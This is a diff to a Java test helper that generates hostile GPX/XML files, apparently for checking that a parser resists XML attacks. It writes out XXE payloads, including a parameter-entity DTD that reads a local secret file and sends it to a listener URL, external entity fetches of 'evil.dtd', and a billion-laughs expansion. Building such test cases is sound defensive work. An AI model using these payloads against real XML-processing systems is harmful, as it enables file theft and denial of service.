@@ -22,7 +22,7 @@ public final class HostileFiles {
     /** What the listener serves: reads {@code secretPath} and sends it back to {@code listener} in a URL. */
     static String exfiltratingDtd(String listener, String secretPath) {
         return "<!ENTITY % secret SYSTEM \"file://" + secretPath + "\">"
-                + "<!ENTITY % wrap \"<!ENTITY leak SYSTEM '" + listener + "/leak?%secret;'>\">%wrap;";
+                + "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + listener + "/leak?%secret;'>\">%wrap;%send;";
     }
 
     /** Every hostile XML case as a GPX file, by a name that says what it tries. */
@@ -44,8 +44,8 @@ public final class HostileFiles {
         cases.put("xxe-file-entity", doc.with("[<!ENTITY s SYSTEM \"file://" + secretPath + "\">]", "&s;"));
         cases.put("xxe-http-entity", doc.with("[<!ENTITY s SYSTEM \"" + listener + "/entity\">]", "&s;"));
         cases.put("xxe-parameter-entities", doc.with("[<!ENTITY % remote SYSTEM \"" + listener
-                + "/evil.dtd\"> %remote;]", "&leak;"));
-        cases.put("xxe-external-dtd", doc.with("SYSTEM \"" + listener + "/evil.dtd\"", "&leak;"));
+                + "/evil.dtd\"> %remote;]", "Lunch Run"));
+        cases.put("xxe-external-dtd", doc.with("SYSTEM \"" + listener + "/evil.dtd\"", "Lunch Run"));
         cases.put("billion-laughs", doc.with(billionLaughs(), "&lol9;"));
         cases.put("internal-subset-only", doc.with("[<!ENTITY n \"Lunch Run\">]", "&n;"));
         Map<String, byte[]> bytes = new LinkedHashMap<>();
